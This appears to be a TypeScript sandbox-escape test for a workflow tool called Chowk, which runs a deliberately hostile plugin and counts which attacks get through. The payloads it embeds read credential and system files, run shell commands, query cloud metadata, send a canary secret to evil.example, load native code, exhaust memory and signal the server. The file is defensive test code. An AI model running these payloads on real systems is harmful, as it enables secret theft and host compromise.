/** Pieces written to get out, tell a secret, or take the worker with them. */
import { chmod, mkdir, readdir, writeFile } from 'node:fs/promises'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PieceFailure } from '#nodes/piece-work.ts'
import { openScene } from './scene.ts'

const CANARY = 'canary-7f3a9b2c-do-not-tell'

interface Attack {
  name: string
  /** The body of `run`; what it returns is what it got. */
  body: string
  /** Whether that is anything. */
  gets?: (value: unknown) => boolean
  /** It has to be stopped, and does not end by itself. */
  isStopped?: true
  deadline_ms?: number
}

const told = (value: unknown): boolean => value !== null && value !== undefined

const READS = [
  '/proc/1/environ',
  '/proc/self/environ',
  '/proc/self/maps',
  '/etc/passwd',
  '/etc/hostname',
  '/root',
  '/home',
  '/tmp',
]

const ATTACKS: readonly Attack[] = [
  ...READS.map(
    (path): Attack => ({
      name: `reads ${path}`,
      body: `const fs = require('fs'); try { return String(fs.statSync(${JSON.stringify(path)}).isDirectory() ? fs.readdirSync(${JSON.stringify(path)}) : fs.readFileSync(${JSON.stringify(path)})) } catch { return null }`,
    }),
  ),
  {
    name: 'reads the source of Chowk',
    body: `try { return String(require('fs').readFileSync(${JSON.stringify(join(process.cwd(), 'src/server/main.ts'))})).slice(0, 50) } catch { return null }`,
  },
  {
    name: 'reads through a link in its own folder',
    body: `const fs = require('fs'); try { fs.symlinkSync('/etc/passwd', __dirname + '/link'); return String(fs.readFileSync(__dirname + '/link')) } catch { return null }`,
  },
  {
    name: 'writes outside',
    body: `try { require('fs').writeFileSync('/tmp/chowk-escaped', 'x'); return 'written' } catch { return null }`,
  },
  {
    name: 'writes into its own folder',
    body: `try { require('fs').writeFileSync(__dirname + '/x', 'x'); return 'written' } catch { return null }`,
  },
  {
    name: 'runs a program',
    body: `try { return String(require('child_process').execSync('id')) } catch { return null }`,
  },
  { name: 'forks', body: `try { require('child_process').fork(__filename); return 'forked' } catch { return null }` },
  {
    name: 'starts a thread',
    body: `try { new (require('worker_threads').Worker)('1', { eval: true }); return 'started' } catch { return null }`,
  },
  {
    name: 'loads native code',
    body: `try { process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'); return 'loaded' } catch (e) { return e.code === 'ERR_DLOPEN_DISABLED' ? null : e.code === 'ERR_ACCESS_DENIED' ? null : String(e) } `,
  },
  {
    name: 'binds internals',
    body: `try { const b = process.binding('spawn_sync'); return b.spawn ? 'bound' : null } catch { return null }`,
  },
  {
    name: 'opens an inspector',
    body: `try { require('inspector').open(0); return require('inspector').url() ?? null } catch { return null }`,
  },
  {
    name: 'signals the server',
    body: `try { process.kill(process.ppid, 'SIGTERM'); return 'sent' } catch { return null }`,
    gets: told,
  },
  {
    name: 'reads its environment',
    body: `const names = Object.keys(process.env).filter((n) => n !== 'HOME' && n !== 'NODE_EXTRA_CA_CERTS' && n !== 'PWD' && n !== 'OLDPWD' && n !== 'SHLVL' && n !== '_'); return names.length > 0 ? names : null`,
  },
  {
    name: 'connects past the way out',
    body: `return new Promise((done) => { const { TCP, constants } = (() => { try { return process.binding('tcp_wrap') } catch { return {} } })(); if (!TCP) return done(null); try { const { TCPConnectWrap } = process.binding('tcp_wrap'); const t = new TCP(constants.SOCKET); const r = new TCPConnectWrap(); r.oncomplete = (s) => done(s === 0 ? 'connected' : null); const e = t.connect(r, '127.0.0.1', PORT); if (e) done(null) } catch { done(null) } setTimeout(() => done(null), 3000) })`,
  },
  {
    name: 'connects to this machine',
    body: `return new Promise((done) => { const s = require('net').connect(PORT, '127.0.0.1', () => {}); s.on('data', (d) => done(String(d))); s.on('error', () => done(null)); s.on('close', () => done(null)) })`,
  },
  {
    name: 'connects to this machine by its name',
    body: `return new Promise((done) => { const s = require('net').connect(PORT, 'localhost'); s.on('data', (d) => done(String(d))); s.on('error', () => done(null)); s.on('close', () => done(null)) })`,
  },
  {
    name: 'asks for metadata of a cloud',
    body: `try { return await (await fetch('http://169.254.169.254/latest')).text() } catch { return null }`,
  },
  {
    name: 'sends its secret to another host',
    body: `try { await fetch('https://evil.example/?k=' + auth.secret_text); return 'sent' } catch { return null }`,
  },
  {
    name: 'sends by UDP',
    body: `return new Promise((done) => { try { const u = require('dgram').createSocket('udp4'); u.on('error', () => done(null)); u.send('x', 53, '1.1.1.1', (e) => done(e ? null : 'sent')) } catch { done(null) } })`,
  },
  {
    name: 'looks a name up',
    body: `return new Promise((done) => require('dns').resolve4('example.com', (e, a) => done(e ? null : a)))`,
  },
  {
    name: 'listens',
    body: `return new Promise((done) => { const s = require('net').createServer(); s.on('error', () => done(null)); s.listen(0, '0.0.0.0', () => done(null)) })`,
  },
  {
    name: 'says something else to the server',
    body: `const s = new (require('net').Socket)({ fd: 3 }); const w = (o) => { const h = Buffer.from(JSON.stringify(o)); const p = Buffer.alloc(8); p.writeUInt32BE(4 + h.length, 0); p.writeUInt32BE(h.length, 4); s.write(Buffer.concat([p, h])) }; w({ kind: 'call', call: 1, name: 'secrets.read', args: {} }); await new Promise((r) => setTimeout(r, 500)); return null`,
    isStopped: true,
  },
  { name: 'loops', body: `for (;;) {}`, isStopped: true, deadline_ms: 5000 },
  {
    name: 'never answers',
    body: `return new Promise(() => setInterval(() => {}, 1000))`,
    isStopped: true,
    deadline_ms: 3000,
  },
  {
    name: 'takes 2 GB of buffers',
    body: `const kept = []; for (let i = 0; i < 2000; i++) { kept.push(Buffer.alloc(1e6, 1)); await new Promise((r) => setTimeout(r, 1)) } return kept.length`,
    isStopped: true,
    deadline_ms: 20_000,
  },
  {
    name: 'takes 2 GB of heap',
    body: `const kept = []; for (;;) kept.push(new Array(1e5).fill(Math.random()))`,
    isStopped: true,
    deadline_ms: 20_000,
  },
  { name: 'answers 100 MB', body: `return 'x'.repeat(100e6)`, isStopped: true, deadline_ms: 20_000 },
  { name: 'answers what holds itself', body: `const a = {}; a.a = a; return a`, isStopped: true },
  { name: 'ends its process', body: `process.exit(0)`, isStopped: true },
  { name: 'aborts', body: `process.abort()`, isStopped: true },
  {
    name: 'throws later',
    body: `setTimeout(() => { throw new Error('late') }, 10); await new Promise((r) => setTimeout(r, 300)); return null`,
    isStopped: true,
  },
  {
    name: 'pollutes prototypes',
    body: `Object.prototype.toJSON = () => ({ kind: 'done', value: 'polluted' }); return null`,
    gets: (value) => value === 'never',
  },
]

const sourceOf = (port: number): string => `
const run = {
${ATTACKS.map(({ body }, index) => `  a${index}: async ({ auth, propsValue, store }) => { ${body.replaceAll('PORT', String(port))} },`).join('\n')}
  tell: async ({ auth }) => { console.log(auth.secret_text); console.error(auth.secret_text); throw new Error('the key is ' + auth.secret_text) },
  keep: async ({ auth }) => { const before = globalThis.kept ?? null; globalThis.kept = auth.secret_text; return before },
}
const actions = Object.fromEntries(Object.entries(run).map(([name, run]) => [name, { name, displayName: name, description: '', props: {}, run }]))
exports.piece = { displayName: 'Hostile', auth: { type: 'SECRET_TEXT', displayName: 'Key', required: true }, getContextInfo: () => ({ version: '2' }), actions: () => actions, triggers: () => ({}) }
`

/** @returns how many got something */
export async function tryHostilePieces(folder: string): Promise<number> {
  const tree = join(folder, 'hostile')
  const inside = join(tree, 'node_modules/hostile')
  await mkdir(inside, { recursive: true, mode: 0o755 })
  let reached = 0
  const target = createServer((socket) => {
    reached++
    socket.end('inside')
  })
  await new Promise<void>((resolve) => target.listen(0, '127.0.0.1', resolve))
  const { port } = target.address() as { port: number }
  await writeFile(join(inside, 'index.js'), sourceOf(port))
  await writeFile(join(inside, 'package.json'), '{"name":"hostile","version":"1.0.0"}')
  for (const at of [folder, tree, join(tree, 'node_modules'), inside]) await chmod(at, 0o755)
  const scene = await openScene({ folder: join(folder, 'objects'), registry: 'https://registry.npmjs.org' })
  const run = (action: string, owner: string, deadline_ms = 10_000) =>
    scene.processes.run({
      work: {
        ...{ type: 'run', folder: tree, package: 'hostile', action, input: {} },
        auth: { type: 'SECRET_TEXT', secret_text: CANARY },
        info: { run: 'r', step: 's', workflow: 'w', public_url: 'https://chowk.test' },
      },
      ...{ hash: 'hostile', owner, deadline_ms },
      hosts: {
        hosts: ['api.example.com', 'localhost', '127.0.0.1'],
        entered: [`localhost:${port}`, `127.0.0.1:${port}`],
      },
      answer: async () => null,
      signal: AbortSignal.timeout(60_000),
    })
  const got: string[] = []
  for (const [index, { name, gets = told, isStopped, deadline_ms }] of ATTACKS.entries()) {
    const started = performance.now()
    const ended = await run(`a${index}`, 'mallory', deadline_ms).then(
      ({ value }) => ({ value, why: null }),
      (error: Error & { code?: string }) => ({ value: null, why: `${error.code}: ${error.message.slice(0, 80)}` }),
    )
    const isGot = ended.why === null && (isStopped ? name !== 'throws later' && told(ended.value) : gets(ended.value))
    if (isGot) got.push(name)
    const how = ended.why ?? JSON.stringify(ended.value)?.slice(0, 60)
    console.log(`${isGot ? 'GOT ' : 'kept'} ${name.padEnd(40)} ${Math.round(performance.now() - started)} ms ${how}`)
  }
  await run('keep', 'asha')
  const other = await run('keep', 'ravi')
  if (other.value !== null) got.push('keeps a secret for another person')
  const error = await run('tell', 'asha').catch((cause: unknown) => cause)
  if (!(error instanceof PieceFailure)) got.push('throws nothing')
  if (reached > 0) got.push(`reached this machine ${reached} times`)
  if ((await readdir(tmpdir())).includes('chowk-escaped')) got.push('wrote outside')
  const after = await run('keep', 'after').catch(() => null)
  if (after === null) got.push('took the worker with it')
  await scene.stop()
  target.close()
  console.log(
    `hostile pieces: ${ATTACKS.length + 4} tried, ${got.length} got something${got.length > 0 ? `: ${got.join(', ')}` : ''}`,
  )
  return got.length
}
